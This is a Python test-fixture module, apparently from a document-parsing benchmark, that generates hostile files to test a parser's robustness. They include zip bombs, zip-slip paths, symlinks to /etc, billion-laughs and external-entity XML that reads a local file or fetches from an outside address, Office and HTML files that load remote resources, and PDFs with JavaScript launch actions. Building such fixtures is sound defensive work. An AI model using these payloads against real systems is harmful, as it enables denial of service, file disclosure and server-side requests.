"""Files made to harm whoever reads them: bombs, entities, outside addresses, depth, sizes that lie, endless pages.

Every file is made here, the same for the same arguments. ``outside`` is an address that nobody may call, ``canary`` a
local file that nobody may read.
"""

from collections.abc import Iterator, Sequence
from io import BytesIO
from itertools import chain
from pathlib import Path
from zipfile import ZIP_BZIP2, ZIP_LZMA, ZIP_STORED, ZipFile, ZipInfo

from bench.crafted_files import (
    CATALOG,
    FONT,
    OFFICE,
    ONE_PAGE,
    PAGE,
    SENTENCE,
    SHEET,
    WORD,
    WORDS,
    Hostile,
    docx,
    paragraph,
    pdf,
    stream,
    xlsx,
    zipped,
)


def hostile_files(outside: str, canary: Path) -> Iterator[Hostile]:
    """All of them, about 160."""
    families = (
        bombs(),
        entities(outside, canary),
        outside_addresses(outside, canary),
        depths(),
        sheets(),
        pages(outside),
        texts(),
        disguises(),
    )
    return chain.from_iterable(families)


def bombs(size: int = 120_000_000) -> Iterator[Hostile]:
    """Zip files, and Office files, whose members grow to so many bytes, or that have too many members or depths."""
    zeros = b"\0" * size
    members: dict[str, bytes] = {
        "dense": zipped({"a.txt": zeros, "b.txt": zeros}),
        "ratio": zipped({"a.txt": b"\0" * (size // 3)}),
        "bzip2": zipped({"a.txt": zeros}, ZIP_BZIP2),
        "lzma": zipped({"a.txt": zeros}, ZIP_LZMA),
        "many": zipped({f"{number}.txt": "x" for number in range(3_000)}),
        "lying": _lying(zipped({"a.txt": b"\0" * 9_000_000})),
        "nested": _nested(6),
        "wide": zipped({f"{number}.zip": zipped({"a.txt": b"\0" * 9_900_000}) for number in range(40)}),
        "outside": zipped({"../../a.txt": SENTENCE, "/etc/a.txt": SENTENCE, "C:\\a.txt": SENTENCE}),
        "twice": _twice(),
        "link": _link(),
        "long": zipped({"长" * 20_000 + ".txt": SENTENCE}),
        "cut": zipped({"a.txt": SENTENCE})[:-10],
        "prefixed": b"MZ" * 5_000 + zipped({"a.txt": SENTENCE}),
    }
    for name, data in members.items():
        yield Hostile(f"bomb-{name}.zip", data)
    part = b'<?xml version="1.0"?><a>' + b" " * size + b"</a>"
    for suffix, make in (("docx", docx), ("xlsx", xlsx)):
        yield Hostile(f"bomb-part.{suffix}", make(word__document_xml=part, xl__workbook_xml=part))
        yield Hostile(f"bomb-other.{suffix}", make(media__image_png=zeros, media__other_png=zeros))
        for name in ("many", "nested", "lying"):
            yield Hostile(f"bomb-{name}.{suffix}", members[name])


def _lying(data: bytes) -> bytes:
    """The same, but its directory says that the member has five bytes."""
    changed = bytearray(data)
    place = changed.index(b"PK\x01\x02") + 24
    changed[place : place + 4] = (5).to_bytes(4, "little")
    return bytes(changed)


def _nested(depth: int) -> bytes:
    data = zipped({"a.txt": SENTENCE})
    for _ in range(depth):
        data = zipped({"a.zip": data})
    return data


def _twice() -> bytes:
    first, second = zipped({"a.txt": SENTENCE}), zipped({"b.txt": SENTENCE * 2})
    return first + second.replace(b"b.txt", b"a.txt")


def _link() -> bytes:
    target = BytesIO()
    with ZipFile(target, "w") as archive:
        link = ZipInfo("a.txt")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/hostname")
    return target.getvalue()


def entities(outside: str, canary: Path) -> Iterator[Hostile]:
    """XML that expands, fetches or includes, in each part a reader looks at; and pages that try the same."""
    laughs = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    declared = {
        "laughs": f'<!DOCTYPE a [<!ENTITY e0 "哈">{laughs}]>',
        "quadratic": f'<!DOCTYPE a [<!ENTITY e9 "{"长" * 100_000}">]>',
        "file": f'<!DOCTYPE a [<!ENTITY e9 SYSTEM "{canary.as_uri()}">]>',
        "http": f'<!DOCTYPE a [<!ENTITY e9 SYSTEM "{outside}/entity">]>',
        "parameter": f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{outside}/parameter"> %p;]>',
        "dtd": f'<!DOCTYPE a SYSTEM "{outside}/a.dtd">',
        "stylesheet": f'<?xml-stylesheet type="text/xsl" href="{outside}/a.xsl"?>',
    }
    word = f'<w:document xmlns:w="{WORD}"><w:body>{paragraph("&e9;" * 200)}</w:body></w:document>'
    book = f'<workbook xmlns="{SHEET}"><sheets><sheet name="&e9;" sheetId="1"/></sheets></workbook>'
    strings = f'<sst xmlns="{SHEET}"><si><t>{"&e9;" * 200}</t></si></sst>'
    shared = f'<Relationship Id="r9" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    for name, head in declared.items():
        yield Hostile(f"entity-{name}.docx", docx(word__document_xml=head + word))
        styles = f'{head}<w:styles xmlns:w="{WORD}"><w:style w:styleId="&e9;"/></w:styles>'
        to_styles = f'<Relationship Id="r9" Type="{OFFICE}/styles" Target="styles.xml"/>'
        yield Hostile(f"entity-styles-{name}.docx", docx(relations=to_styles, word__styles_xml=styles))
        yield Hostile(f"entity-{name}.xlsx", xlsx(xl__workbook_xml=head + book))
        yield Hostile(f"entity-strings-{name}.xlsx", xlsx(relations=shared, xl__sharedStrings_xml=head + strings))
        yield Hostile(f"entity-relations-{name}.docx", docx(**{"word___rels__document.xml_rels": head + "<a>&e9;</a>"}))
        page = f"{head}<html><body><p>{SENTENCE}&e9;</p></body></html>"
        yield Hostile(f"entity-{name}.html", page.encode())


def outside_addresses(outside: str, canary: Path) -> Iterator[Hostile]:
    """Documents that refer to what is elsewhere: pictures, templates, links, frames, scripts."""
    for address in (f"{outside}/picture", canary.as_uri()):
        which = "http" if address.startswith("http") else "file"
        for kind in ("image", "attachedTemplate", "hyperlink", "oleObject", "aFChunk", "styles", "officeDocument"):
            relation = f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{address}" TargetMode="External"/>'
            body = f'{paragraph()}<w:altChunk r:id="r9"/><w:hyperlink r:id="r9">{paragraph()}</w:hyperlink>'
            yield Hostile(f"outside-{which}-{kind}.docx", docx(body, relations=relation))
        for kind in ("externalLink", "image", "worksheet", "sharedStrings"):
            relation = f'<Relationship Id="r9" Type="{OFFICE}/{kind}" Target="{address}" TargetMode="External"/>'
            rows = f'<row><c r="A1"><f>WEBSERVICE("{address}")</f><v>1</v></c></row>'
            yield Hostile(f"outside-{which}-{kind}.xlsx", xlsx(rows, relations=relation))
        page = (
            f'<html><head><base href="{address}/"><link rel="stylesheet" href="{address}"><script src="{address}">'
            f'</script><meta http-equiv="refresh" content="0;url={address}"><style>@import "{address}";</style></head>'
            f'<body><img src="{address}"><iframe src="{address}"></iframe><object data="{address}"></object>'
            f'<svg><image href="{address}"/></svg><p>{SENTENCE}</p></body></html>'
        )
        yield Hostile(f"outside-{which}.html", page.encode())
        yield Hostile(f"outside-{which}-page.doc", page.encode())
        yield Hostile(f"outside-{which}.md", f"![图]({address})\n\n{SENTENCE}\n".encode())
        field = r'{\field{\*\fldinst { INCLUDEPICTURE "' + address + r'" \\* MERGEFORMAT \\d}}}'
        text = "".join(f"\\u{ord(letter)}?" for letter in SENTENCE)
        yield Hostile(f"outside-{which}.rtf", (r"{\rtf1\ansi " + field + text + r"\par}").encode())


def depths() -> Iterator[Hostile]:
    """Things in things in things."""
    for depth in (300, 5_000, 100_000):
        tables, cells = "<table><tr><td>" * depth, "</td></tr></table>" * depth
        yield Hostile(f"deep-tables-{depth}.html", f"<html><body>{tables}{SENTENCE}{cells}</body></html>".encode())
        yield Hostile(f"deep-blocks-{depth}.html", ("<div>" * depth + SENTENCE).encode())
        lists = "".join("<ul><li>" for _ in range(depth))
        yield Hostile(f"deep-lists-{depth}.html", (lists + SENTENCE).encode())
        opening, closing = "<w:tbl><w:tr><w:tc>" * depth, "</w:tc></w:tr></w:tbl>" * depth
        yield Hostile(f"deep-tables-{depth}.docx", docx(opening + paragraph() + closing))
        controls = "<w:sdt><w:sdtContent>" * depth + paragraph() + "</w:sdtContent></w:sdt>" * depth
        yield Hostile(f"deep-controls-{depth}.docx", docx(controls))
        yield Hostile(f"deep-brackets-{depth}.txt", ("(" * depth + SENTENCE + ")" * depth).encode())
        yield Hostile(f"deep-records-{depth}.jsonl", ('{"text":' * depth + "1" + "}" * depth).encode())
        yield Hostile(f"deep-quotes-{depth}.md", ("> " * depth + SENTENCE).encode())


def sheets() -> Iterator[Hostile]:
    """Workbooks whose few bytes stand for many cells."""
    merged = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    yield Hostile("sheet-merged.xlsx", xlsx(after=merged))
    yield Hostile(
        "sheet-many-merged.xlsx", xlsx(after=merged.replace("/></", '/><mergeCell ref="A1:CV999"/>' * 999 + "</", 1))
    )
    corner = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield Hostile("sheet-corner.xlsx", xlsx(corner))
    diagonal = "".join(f'<row r="{n}"><c r="{_column(n)}{n}"><v>1</v></c></row>' for n in range(1, 5_000))
    yield Hostile("sheet-diagonal.xlsx", xlsx(diagonal))
    strings = f'<sst xmlns="{SHEET}"><si><t>{"长" * 10_000}</t></si></sst>'
    relation = f'<Relationship Id="r9" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/>'
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 60_000))
    yield Hostile("sheet-shared.xlsx", xlsx(cells, relations=relation, xl__sharedStrings_xml=strings))
    hidden = '<cols><col min="1" max="999999999" hidden="1"/></cols>'
    yield Hostile("sheet-hidden.xlsx", xlsx(after=hidden))
    yield Hostile("sheet-number.xlsx", xlsx(f'<row r="{"9" * 5_000}"><c r="A1"><v>{"9" * 100_000}</v></c></row>'))
    codes = f'<styleSheet xmlns="{SHEET}"><numFmts><numFmt numFmtId="200" formatCode="{"#,##0;" * 50_000}"/></numFmts>'
    codes += '<cellXfs><xf numFmtId="200"/></cellXfs></styleSheet>'
    relation = f'<Relationship Id="r9" Type="{OFFICE}/styles" Target="styles.xml"/>'
    styled = '<row><c s="0"><v>1e308</v></c><c s="99999"><v>-1e999</v></c></row>'
    yield Hostile("sheet-format.xlsx", xlsx(styled, relations=relation, xl__styles_xml=codes))


def _column(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def pages(outside: str) -> Iterator[Hostile]:
    """PDF files without end, with loops, with actions."""
    catalog, one, page, font, words = CATALOG, ONE_PAGE, PAGE, FONT, WORDS
    many = b"<</Type /Pages /Kids [%b] /Count 900000>>" % (b"3 0 R " * 900_000)
    loop = b"<</Type /Pages /Kids [2 0 R 2 0 R] /Count 2000>>"
    huge = page.replace(b"595 842", b"1e30 1e30")
    action = b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /URI /URI (%b/action)>>>>" % outside.encode()
    script = (
        b"<</Type /Catalog /Pages 2 0 R /OpenAction <</S /JavaScript /JS (app.launchURL('%b'))>>>>" % outside.encode()
    )
    form = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources <</XObject <</X 4 0 R>>>>")
    files: dict[str, Sequence[bytes]] = {
        "pages": (catalog, many, page, stream(words), font),
        "loop": (catalog, loop, page, stream(words), font),
        "bomb": (catalog, one, page, stream(b" " * 400_000_000), font),
        "endless": (catalog, one, page, stream(words * 400_000), font),
        "lines": (catalog, one, page, stream(b"0 0 m 9 9 l S\n" * 2_000_000), font),
        "huge": (catalog, one, huge, stream(words), font),
        "action": (action, one, page, stream(words), font),
        "script": (script, one, page, stream(words), font),
        "form": (catalog, one, page.replace(b"/Font", b"/XObject <</X 4 0 R>> /Font"), form, font),
        "arrays": (catalog, one, page, b"[" * 100_000 + b"]" * 100_000, font),
        "states": (catalog, one, page, stream(b"q " * 3_000_000), font),
        "lost": (catalog, b"<</Type /Pages /Kids [99 0 R] /Count 1>>"),
    }
    for name, objects in files.items():
        yield Hostile(f"page-{name}.pdf", pdf(*objects))
    yield Hostile("page-root.pdf", pdf(catalog, one, trailer=b"/Root 9 0 R"))
    yield Hostile("page-before.pdf", pdf(catalog, one, trailer=b"/Root 1 0 R /Prev 9"))
    yield Hostile("page-zeros.pdf", b"%PDF-1.7" + b"\0" * 40_000_000)


def texts() -> Iterator[Hostile]:
    """Text that no one wrote for people."""
    long = {
        "line": SENTENCE * 100_000,
        "heads": "".join(f"{number}.任务。{SENTENCE}\n" for number in range(40_000)),
        "digits": "9" * 3_000_000,
        "bodies": "市生态环境局、" * 200_000 + "负责。",
        "colons": "牵头单位:" * 300_000,
        "open": "(" * 1_000_000,
        "titles": "《" * 500_000 + "规划" + "》" * 500_000,
        "tabs": ("指标\t单位\t" * 300 + "\n") * 1_000,
        "blank": " \n" * 5_000_000,
        "controls": "".join(map(chr, range(32))) * 50_000 + SENTENCE,
        "private": "\ue000\u202e\u200b\ufeff" * 300_000 + SENTENCE,
    }
    for name, text in long.items():
        yield Hostile(f"text-{name}.txt", text.encode())
    yield Hostile("text-bytes.txt", bytes(range(256)) * 20_000)
    yield Hostile("text-utf16.txt", b"\xff\xfe" + b"\x00\xd8" * 100_000)
    yield Hostile("text-utf32.txt", b"\xff\xfe\x00\x00" + b"\xff\xff\xff\x7f" * 1_000)
    yield Hostile("text-large.txt", b"x" * 50_000_001)
    yield Hostile("text-large.pdf", b"%PDF-1.7" + b"x" * 50_000_001)
    yield Hostile("text-bars.md", (("|" * 5_000 + "\n") * 500).encode())


def disguises() -> Iterator[Hostile]:
    """Files that are not what they are called."""
    program = b"\x7fELF" + bytes(range(256)) * 40
    word, book = docx(), xlsx()
    for name, data in {
        "program.docx": program,
        "program.pdf": program,
        "program.zip": program,
        "book.docx": book,
        "word.xlsx": word,
        "word.pdf": word,
        "zip.txt": zipped({"a.txt": SENTENCE}, ZIP_STORED),
        "old.docx": b"\xd0\xcf\x11\xe0" + program,
        "empty.docx": b"",
        "empty.pdf": b"",
        "empty.zip": zipped({}),
        "record.jsonl": b'{"text": 1}\n',
        "bytes.jsonl": bytes(range(256)),
    }.items():
        yield Hostile(f"disguised-{name}", data)
